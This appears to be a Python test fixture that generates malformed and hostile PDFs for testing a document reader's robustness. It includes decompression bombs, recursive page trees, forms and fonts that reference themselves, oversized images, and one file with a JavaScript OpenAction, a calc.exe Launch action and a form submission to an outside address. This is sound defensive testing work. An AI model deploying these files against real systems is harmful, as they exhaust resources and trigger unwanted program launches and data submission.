"""Broken and hostile files, made by script: ``FILES[name]()`` is the bytes of one."""

from __future__ import annotations

import random
from collections.abc import Callable

from reportlab.pdfgen.canvas import Canvas

from tests.pdfs import assembled, deflated, drawn, stream, text_page, written

SENTENCE = "Le médecin-conseil reçoit les pièces sous pli fermé."
_LINE = b"BT /F 9 Tf 50 %d Td (Le medecin-conseil de l'assureur) Tj ET\n"


def empty() -> bytes:
    return b""


def not_a_pdf() -> bytes:
    return b"\x7fELF" + bytes(range(32)) * 50


def truncated() -> bytes:
    whole = drawn(*[text_page(*[SENTENCE] * 20)] * 3)
    return whole[: len(whole) // 3]


def random_after_header() -> bytes:
    return b"%PDF-1.7\n" + random.Random(7).randbytes(20_000)


def user_password() -> bytes:
    return drawn(text_page(SENTENCE), password="secret")


def _photograph(canvas: Canvas) -> None:
    canvas.drawInlineImage(_noise(), 0, 0, 595, 842)


def _noise() -> object:
    from PIL import Image

    return Image.frombytes("L", (64, 64), random.Random(3).randbytes(64 * 64))


def image_only() -> bytes:
    return drawn(_photograph, _photograph)


def blank_pages() -> bytes:
    return drawn(*[text_page()] * 5)


def three_thousand_pages() -> bytes:
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << /Font << /F 4 0 R >> >> >>"
    )
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 3005))
    return assembled(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count 3000 >>",
        stream(_LINE % 700),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *[page] * 3000,
    )


def dense_page() -> bytes:
    rows = b"".join(b"BT /F 1 Tf 1 0 0 1 %d %d Tm (%d secret medical) Tj ET\n" % (x, y, x * y)
                    for x in range(0, 590, 12) for y in range(0, 840))  # fmt: skip
    return written(deflated(rows), filters=b"/FlateDecode")


def garbled_font() -> bytes:
    codes = b"1 begincodespacerange <00> <ff> endcodespacerange "
    cmap = b"begincmap " + codes + b"1 beginbfrange <20> <7e> <e020> endbfrange endcmap"
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 7 0 R >>"
    return written(_LINE % 700, font, stream(cmap), resources=b"/Font << /F 6 0 R >>")


def looped_page_tree() -> bytes:
    return written(_LINE % 700, kids=b"[2 0 R 3 0 R 2 0 R]", count=b"3")


def deep_page_tree() -> bytes:
    depth = 5_000
    levels = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 3) for number in range(depth)]
    leaf = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (depth + 1)
    return assembled(b"<< /Type /Catalog /Pages 2 0 R >>", *levels, leaf)


def false_page_count() -> bytes:
    return written(_LINE % 700, count=b"50000000")


def zip_bomb() -> bytes:
    return written(deflated(b" " * 600_000_000), filters=b"/FlateDecode")


def zip_bomb_in_a_zip_bomb() -> bytes:
    return written(deflated(b" " * 900_000_000, times=3), filters=b"[/FlateDecode /FlateDecode /FlateDecode]")


def drawing_bomb() -> bytes:
    return written(deflated(b"0 0 1 1 re f " * 8_000_000), filters=b"/FlateDecode")


def nested_forms() -> bytes:
    """Eight forms, each drawing the next one ten times over: a hundred million drawings in two kilobytes."""
    forms = []
    for level in range(8):
        inner = level < 7
        used = b"/XObject << /X %d 0 R >>" % (level + 7) if inner else b"/Font << /F 5 0 R >>"
        body = b"/X Do " * 10 if inner else _LINE % 700
        head = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << " + used + b" >>"
        forms.append(stream(body, dictionary=head))
    return written(b"/X Do " * 10, *forms, resources=b"/XObject << /X 6 0 R >>")


def form_that_draws_itself() -> bytes:
    head = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R >> >>"
    content = _LINE % 700 + b"/X Do"
    return written(
        content, stream(b"/X Do", dictionary=head), resources=b"/Font << /F 5 0 R >> /XObject << /X 6 0 R >>"
    )


def negative_mediabox() -> bytes:
    return written(_LINE % 700, mediabox=b"[595 842 0 0]")


def huge_mediabox() -> bytes:
    return written(_LINE % 700, mediabox=b"[-1e30 -1e30 1e30 1e30]")


def flat_mediabox() -> bytes:
    return written(_LINE % 700, mediabox=b"[0 0 0 0]")


def hostile_page_among_others() -> bytes:
    """A page that never ends between two ordinary ones."""
    resources = b"/Resources << /Font << /F 8 0 R >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R " + resources + b" >>"
    good = stream(_LINE % 700)
    return assembled(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R] /Count 3 >>",
        page % 6,
        page % 7,
        page % 6,
        good,
        stream(deflated(b"0 0 1 1 re f " * 8_000_000), b"/FlateDecode"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


# ---- bombs: little to send, much to do -----------------------------------------------------------------


def ten_thousand_pages() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources 5 0 R >>"
    kids = b" ".join(b"%d 0 R" % number for number in range(6, 10_006))
    return assembled(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count 10000 >>",
        stream(_LINE % 700),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Font << /F 4 0 R >> >>",
        *[page] * 10_000,
    )


def table_that_follows_itself() -> bytes:
    """The table of objects says that an earlier one stands where it stands."""
    whole = written(_LINE % 700)
    return whole.replace(b"/Root", b"/Prev %d /Root" % whole.rindex(b"xref\n0"))


def table_of_four_billion_objects() -> bytes:
    table = b"/Type /XRef /Size 4294967295 /W [8 8 8] /Index [0 4294967295] /Root 1 0 R"
    whole = written(_LINE % 700)
    start = whole.rindex(b"xref\n0")
    body = b"9 0 obj\n" + stream(deflated(bytes(50_000_000)), b"/FlateDecode", table) + b"\nendobj\n"
    return whole[:start] + body + b"startxref\n%d\n%%%%EOF\n" % start


def objects_inside_themselves() -> bytes:
    """An object stream that extends itself, and says that it is its own length."""
    inner = b"/Type /ObjStm /N 100000000 /First 10 /Extends 6 0 R /DecodeParms 6 0 R"
    packed = stream(b"4 0 3 5 << >> << >>", dictionary=inner).replace(b"/Length 19", b"/Length 6 0 R")
    return written(_LINE % 700, packed, page=b"/Annots 6 0 R")


def arrays_in_arrays() -> bytes:
    return written(_LINE % 700, page=b"/Annots " + b"[" * 2_000_000)


def operands_in_operands() -> bytes:
    return written(deflated(b"[" * 20_000_000 + _LINE % 700), filters=b"/FlateDecode")


def one_stream_drawn_a_million_times() -> bytes:
    """Each page's content is a list of the same stream."""
    whole = written(_LINE % 700 * 1_000)
    return whole.replace(b"/Contents 4 0 R", b"/Contents [" + b"4 0 R " * 1_000_000 + b"]")


def long_word() -> bytes:
    return written(
        deflated(b"BT /F 9 Tf 50 700 Td (" + b"secretmedical" * 4_000_000 + b") Tj ET"), filters=b"/FlateDecode"
    )


def _image(width: int, height: int, content: bytes, filters: bytes, more: bytes = b"") -> bytes:
    head = b"/Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8 /ColorSpace /DeviceRGB "
    return stream(content, filters, head % (width, height) + more)


def huge_image() -> bytes:
    """A picture of ten thousand million pixels, of which a million are there."""
    image = _image(100_000, 100_000, deflated(bytes(3_000_000)), b"/FlateDecode")
    return written(b"595 0 0 842 0 0 cm /X Do", image, resources=b"/XObject << /X 6 0 R >>")


def full_image() -> bytes:
    """A picture of four hundred million pixels that are all there."""
    image = _image(20_000, 20_000, deflated(bytes(1_200_000_000)), b"/FlateDecode")
    return written(
        _LINE % 700 + b"595 0 0 842 0 0 cm /X Do", image, resources=b"/Font << /F 5 0 R >> /XObject << /X 6 0 R >>"
    )


def image_drawn_a_hundred_thousand_times() -> bytes:
    image = _image(3_000, 3_000, deflated(bytes(27_000_000)), b"/FlateDecode")
    content = deflated(b"q 595 0 0 842 0 0 cm /X Do Q " * 100_000)
    return written(content, image, filters=b"/FlateDecode", resources=b"/XObject << /X 6 0 R >>")


def image_masked_by_itself() -> bytes:
    image = _image(300, 300, deflated(bytes(270_000)), b"/FlateDecode", b"/SMask 6 0 R")
    return written(b"595 0 0 842 0 0 cm /X Do", image, resources=b"/XObject << /X 6 0 R >>")


def wide_predictor() -> bytes:
    parameters = b"/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 255 /BitsPerComponent 16 >>"
    whole = written(deflated(_LINE % 700), filters=b"/FlateDecode")
    return whole.replace(b"/Filter /FlateDecode", b"/Filter /FlateDecode " + parameters)


def huge_font() -> bytes:
    """An embedded font that unpacks to six hundred million bytes."""
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /Sceau /FontDescriptor 7 0 R /FirstChar 0 /LastChar 255 >>"
    descriptor = b"<< /Type /FontDescriptor /FontName /Sceau /Flags 32 /FontFile2 8 0 R >>"
    file = stream(deflated(b"\0\1\0\0" + bytes(600_000_000)), b"/FlateDecode")
    return written(_LINE % 700, font, descriptor, file, resources=b"/Font << /F 6 0 R >>")


def map_of_four_billion_characters() -> bytes:
    """Every code stands for a character, in ranges that overlap."""
    ranges = b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange " * 20_000
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /Sceau /Encoding /Identity-H"
    font += b" /DescendantFonts [7 0 R] /ToUnicode 8 0 R >>"
    descendant = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Sceau /W [0 4294967295 500] >>"
    cmap = stream(deflated(b"begincmap " + ranges + b"endcmap"), b"/FlateDecode")
    return written(_LINE % 700, font, descendant, cmap, resources=b"/Font << /F 6 0 R >>")


def letter_drawn_with_itself() -> bytes:
    """A font whose letters are drawn with that font."""
    font = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 76 /LastChar 76"
    font += b" /Widths [9] /Encoding << /Differences [76 /L] >> /CharProcs << /L 7 0 R >>"
    font += b" /Resources << /Font << /F 6 0 R >> >> >>"
    return written(_LINE % 700, font, stream(b"9 0 d0 BT /F 9 Tf (LLLL) Tj ET"), resources=b"/Font << /F 6 0 R >>")


def million_notes() -> bytes:
    notes = b"/Annots [" + b"6 0 R " * 1_000_000 + b"]"
    note = b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (secret) >>"
    return written(_LINE % 700, note, page=notes)


def hundred_thousand_fields() -> bytes:
    field = b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (a%d) /Rect [%d 100 %d 110] /V /Off >>"
    fields = [field % (number, number % 500, number % 500 + 9) for number in range(100_000)]
    listed = b" ".join(b"%d 0 R" % number for number in range(6, 100_006))
    whole = written(_LINE % 700, *fields, page=b"/Annots [" + listed + b"]")
    return whole.replace(b"/Type /Catalog", b"/Type /Catalog /AcroForm << /Fields [" + listed + b"] >>")


def field_inside_itself() -> bytes:
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 99 99] /Parent 6 0 R /Kids [6 0 R 6 0 R] >>"
    whole = written(_LINE % 700, field, page=b"/Annots [6 0 R]")
    return whole.replace(b"/Type /Catalog", b"/Type /Catalog /AcroForm << /Fields [6 0 R] >>")


def million_table_lines() -> bytes:
    """A questionnaire under a million ruled lines and boxes to tick."""
    drawn = b"".join(b"%d %d 9 9 re S " % (number % 590, number % 837) for number in range(250_000))
    return written(
        deflated(_LINE % 700 + b"BT /F 9 Tf 50 600 Td (Fumez-vous ?) Tj ET " + drawn), filters=b"/FlateDecode"
    )


def programs() -> bytes:
    """What other readers might run or fetch: scripts, other programs, files on the network."""
    action = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/', true\\);) >>"
    action += b" /AA << /WC << /S /Launch /F (calc.exe) >> >> /URI << /Base (http://192.0.2.1/) >>"
    more = b"/AA << /O << /S /SubmitForm /F (http://192.0.2.1/) >> >>"
    external = b"<< /Type /XObject /Subtype /Image /F << /FS /URL /F (http://192.0.2.1/a.png) >> /Length 0 >>"
    whole = written(
        _LINE % 700 + b"/X Do", external, page=more, resources=b"/Font << /F 5 0 R >> /XObject << /X 6 0 R >>"
    )
    return whole.replace(b"/Type /Catalog", b"/Type /Catalog " + action)


#: Those that take seconds to make or to read, and what keeps them company.
BOMBS: dict[str, Callable[[], bytes]] = {
    make.__name__: make
    for make in (
        ten_thousand_pages,
        table_that_follows_itself,
        table_of_four_billion_objects,
        objects_inside_themselves,
        arrays_in_arrays,
        operands_in_operands,
        one_stream_drawn_a_million_times,
        long_word,
        huge_image,
        full_image,
        image_drawn_a_hundred_thousand_times,
        image_masked_by_itself,
        wide_predictor,
        huge_font,
        map_of_four_billion_characters,
        letter_drawn_with_itself,
        million_notes,
        hundred_thousand_fields,
        field_inside_itself,
        million_table_lines,
        programs,
    )
}

FILES: dict[str, Callable[[], bytes]] = {
    make.__name__: make
    for make in (
        empty,
        not_a_pdf,
        truncated,
        random_after_header,
        user_password,
        image_only,
        blank_pages,
        three_thousand_pages,
        dense_page,
        garbled_font,
        looped_page_tree,
        deep_page_tree,
        false_page_count,
        zip_bomb,
        zip_bomb_in_a_zip_bomb,
        drawing_bomb,
        nested_forms,
        form_that_draws_itself,
        negative_mediabox,
        huge_mediabox,
        flat_mediabox,
        hostile_page_among_others,
    )
}
